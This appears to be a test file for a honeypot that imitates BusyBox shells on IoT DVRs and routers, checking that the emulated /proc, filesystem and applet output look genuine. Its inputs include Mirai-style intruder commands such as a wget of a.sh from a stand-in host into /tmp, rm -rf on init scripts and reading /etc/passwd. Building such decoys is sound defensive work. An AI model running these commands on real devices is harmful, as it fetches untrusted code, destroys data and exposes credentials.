import assert from 'node:assert/strict'
import { test } from 'node:test'
import { samplePersona } from '#persona/sample.ts'
import { elfIn } from '../commands/elf.ts'
import { machineOf } from '../machine.ts'
import { rootAccount, runLine } from '../testing.ts'
import { deviceOf, type Kind } from './facts.ts'
import { firmwares } from './firmwares.ts'

const clock = { now: () => Date.UTC(2026, 0, 15, 9, 30), random: (bytes: number) => Buffer.alloc(bytes, 7) }
const kinds = ['dvr', 'router'] as const
/** A device of a sensor, and what a line answers there. */
const deviceOn = async (seed: string, kind: Kind) => {
  const persona = await samplePersona(seed)
  const computer = machineOf(persona, clock, kind).computer()
  const account = computer.account('root') ?? rootAccount
  const run = async (line: string) => {
    const { stdout, stderr, status } = await runLine(line, { computer, account })
    return { out: stdout, err: stderr, status }
  }
  return { persona, computer, run, facts: deviceOf(persona, kind) }
}
const seeds = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']

test('processor, programs, uname and what the kernel starts are one and the same', async () => {
  const met = new Set<string>()
  for (const kind of kinds)
    for (const seed of seeds) {
      const { run, facts } = await deviceOn(seed, kind)
      const { machine } = facts.firmware
      met.add(facts.firmware.soc.hardware)
      assert.equal((await run('uname -m')).out, `${machine}\n`)
      const { out } = await run('dd bs=52 count=1 if=/bin/busybox 2>/dev/null')
      const header = Buffer.from(out, 'latin1')
      assert.equal(header.length, 52)
      assert.equal(header.readUInt8(4), 1, 'of 32 bits')
      const big = facts.firmware.image === 'router-mips'
      assert.equal(header.readUInt8(5), big ? 2 : 1)
      assert.equal(big ? header.readUInt16BE(18) : header.readUInt16LE(18), kind === 'dvr' ? 40 : 8)
      const whole = elfIn(Buffer.from((await run('cat /bin/ls')).out, 'latin1'))
      assert.equal(whole?.interpreter, '/lib/ld-uClibc.so.0')
      assert.equal(whole?.truncated, false)
      assert.match((await run('cat /proc/cpuinfo')).out, kind === 'dvr' ? /ARMv7|ARM926/ : /MIPS/)
      assert.ok((await run('cat /proc/version')).out.startsWith(`Linux version ${facts.firmware.kernel} (`))
    }
  assert.ok(met.size >= 5, [...met].join())
})

test('what a device is follows from the seed: the same every time, and unlike any other sensor’s', async () => {
  const seen = new Map<string, Set<unknown>>()
  for (const seed of seeds) {
    const { facts, persona } = await deviceOn(seed, 'dvr')
    assert.deepEqual(deviceOf(persona, 'dvr'), facts)
    for (const [name, value] of Object.entries({
      mac: facts.mac,
      built: facts.built.kernel,
      memory: facts.memory,
      salt: facts.salt,
      serial: facts.serial,
    }))
      seen.set(name, (seen.get(name) ?? new Set()).add(value))
  }
  for (const [name, values] of seen) assert.equal(values.size, seeds.length, name)
})

test('flash cannot be written to, memory and the settings can', async () => {
  for (const kind of kinds) {
    const { run } = await deviceOn('a', kind)
    for (const place of ['/', '/bin', '/etc', '/usr/bin', '/home', '/root', '/lib'])
      assert.match((await run(`cd ${place} && >.t`)).err, /can't create \.t: Read-only file system/, place)
    for (const place of ['/tmp', '/var', '/var/run', '/dev', '/dev/shm', '/mnt/mtd'])
      assert.deepEqual(
        await run(`cd ${place} && echo x >.t && cat .t && rm .t`),
        { out: 'x\n', err: '', status: 0 },
        place,
      )
    for (const line of [
      'rm /bin/ls',
      'mv /etc/passwd /etc/p',
      'chmod 777 /bin/sh',
      'mkdir /x',
      'ln -s a /b',
      'rm -rf /etc/init.d',
    ])
      assert.match((await run(line)).err, /Read-only file system/, line)
    await run('mount -o remount,rw /')
    assert.equal((await run('ls /bin/busybox')).out, '/bin/busybox\n')
  }
})

test('the list of applets is what is linked, and nothing else can be found', async () => {
  for (const kind of kinds)
    for (const seed of ['a', 'b']) {
      const { run, facts } = await deviceOn(seed, kind)
      const listed = (await run('busybox --list')).out.trim().split('\n')
      assert.deepEqual(listed, [...listed].sort())
      const about = (await run('busybox')).out
      assert.ok(about.startsWith(`BusyBox v${facts.firmware.busybox} (${facts.built.busybox}) multi-call binary.\n`))
      assert.deepEqual(about.split('Currently defined functions:\n')[1]!.trim().split(/,\s+/), listed)
      const linked = (
        await run(
          'find /bin /sbin /usr -type l | while read f; do case $(readlink $f) in *busybox) basename $f;; esac; done',
        )
      ).out
        .trim()
        .split('\n')
      assert.deepEqual(
        linked.filter(name => name !== 'linuxrc' && !listed.includes(name)),
        [],
      )
      assert.deepEqual(
        listed.filter(name => name !== 'linuxrc' && !linked.includes(name)),
        [],
      )
      for (const name of ['bash', 'curl', 'python', 'perl', 'apt-get', 'systemctl', 'gcc'])
        assert.deepEqual(await run(name), { out: '', err: `sh: ${name}: not found\n`, status: 127 })
      assert.deepEqual(await run('/bin/busybox MIRAI'), { out: '', err: 'MIRAI: applet not found\n', status: 127 })
    }
})

test('columns as BusyBox has them', async () => {
  const { run, facts } = await deviceOn('a', 'dvr')
  const first = async (line: string) => (await run(line)).out.split('\n')[0]
  assert.equal(await first('ps'), '  PID USER       VSZ STAT COMMAND')
  assert.match((await run('ps')).out, /^ {4}1 root +\d+ S {3}init\n {4}2 root {9}0 SW {2}\[kthreadd\]\n/m)
  assert.equal(await first('df'), 'Filesystem           1K-blocks      Used Available Use% Mounted on')
  assert.match((await run('df')).out, /^\/dev\/root +\d+ +\d+ {9}0 100% \/$/m)
  assert.equal(await first('ifconfig'), `eth0      Link encap:Ethernet  HWaddr ${facts.mac.toUpperCase()}  `)
  assert.equal(await first('route -n'), 'Kernel IP routing table')
  assert.equal(await first('netstat -ltn'), 'Active Internet connections (only servers)')
  assert.match((await run('netstat -ltnp')).out, /0\.0\.0\.0:23 +0\.0\.0\.0:\* +LISTEN +\d+\/telnetd/)
  assert.equal(await first('cat /proc/mtd'), 'dev:    size   erasesize  name')
  assert.match(
    (await run('cat /proc/mounts')).out,
    /^rootfs \/ rootfs rw 0 0\n\/dev\/root \/ squashfs ro,relatime 0 0\n/,
  )
  assert.doesNotMatch((await run('dmesg; cat /proc/*')).out, /debian|systemd|x86|QEMU|virtio|amd64/i)
  for (const file of ['/etc/os-release', '/etc/debian_version', '/etc/systemd'])
    assert.notEqual((await run(`ls ${file}`)).status, 0)
})

test('root has the maker’s password, as a hash; whoever else is let in is root by another name', async () => {
  const { run, computer } = await deviceOn('a', 'router')
  assert.match((await run('cat /etc/passwd')).out, /^root:\$1\$[./\w]{8}\$[./\w]{22}:0:0:root:\/:\/bin\/sh\n$/)
  const admin = computer.account('admin')
  assert.deepEqual([admin?.uid, admin?.home, admin?.shell], [0, '/', '/bin/sh'])
  assert.equal(computer.account('no:name'), undefined)
})

test('every row of a kit is whole', () => {
  for (const kind of kinds)
    for (const { years, memory, flash, settings, hostnames, passwords, oui } of firmwares[kind]) {
      assert.ok(years[0] < years[1] && memory[0] < memory[1] && hostnames.length > 0 && passwords.length > 3)
      for (const what of ['root', 'settings']) assert.equal(flash.filter(({ holds }) => holds === what).length, 1)
      assert.ok(settings.path.startsWith('/mnt/'))
      for (const prefix of oui) assert.match(prefix, /^[0-9a-f]{2}(:[0-9a-f]{2}){2}$/)
    }
})

test('/proc is that of the chip and of a kernel so old', async () => {
  for (const kind of kinds)
    for (const seed of seeds) {
      const { run, facts } = await deviceOn(seed, kind)
      const maps = (await run('cat /proc/self/maps')).out
      assert.doesNotMatch(maps, /x86|libc\.so\.6|^[0-9a-f]{9}/m)
      const bounds = [...maps.matchAll(/^([0-9a-f]{8})-([0-9a-f]{8}) /gm)].flatMap(([, from, to]) => [from!, to!])
      assert.deepEqual(bounds, bounds.toSorted(), maps)
      for (const [, dev, inode, path] of maps.matchAll(/ (\S+) (\d+) +(\/\S+)$/gm)) {
        assert.equal((await run(`ls -i ${path}`)).out.trim(), `${inode} ${path}`)
        assert.equal(dev, `1f:0${facts.firmware.flash.findIndex(({ holds }) => holds === 'root')}`)
      }
      assert.match(maps, kind === 'dvr' ? /\[vectors\]\n$/ : /\[(stack|vdso)\]\n$/)
      const status = (await run('cat /proc/self/status')).out
      assert.doesNotMatch(status, /Umask|Ngid|Seccomp/)
      assert.match(status, /\nSigQ:\t0\/\d+\nSigPnd:\t0{16}\n/)
      const memory = (await run('cat /proc/meminfo')).out
      assert.doesNotMatch(memory, /MemAvailable|Huge|34359738367/)
      assert.match(memory, /^MemTotal: +\d+ kB\nMemFree: +\d+ kB\nBuffers: /)
      const own = (await run('ls /proc/self /proc; cat /proc/interrupts')).out
      assert.doesNotMatch(own, /cgroup|thread-self/)
      assert.match(own, new RegExp(`CPU${facts.firmware.cores - 1} +\\n`))
    }
})

test('wget tells of the file it writes where its BusyBox is of 2019 or later', async () => {
  const met = new Set<boolean>()
  for (const kind of kinds)
    for (const seed of seeds) {
      const { run, facts } = await deviceOn(seed, kind)
      const tells = Number(facts.firmware.busybox.split('.')[1]) >= 31
      met.add(tells)
      const { err } = await run('cd /tmp; wget http://203.0.113.9/a.sh')
      assert.match(err, /^Connecting to 203\.0\.113\.9 \(203\.0\.113\.9:80\)\n/)
      assert.equal(/saving to 'a\.sh'[\s\S]*'a\.sh' saved\n$/.test(err), tells, err)
      if (!tells) assert.doesNotMatch(err, /saving|saved/)
    }
  assert.equal(met.size, 2)
})
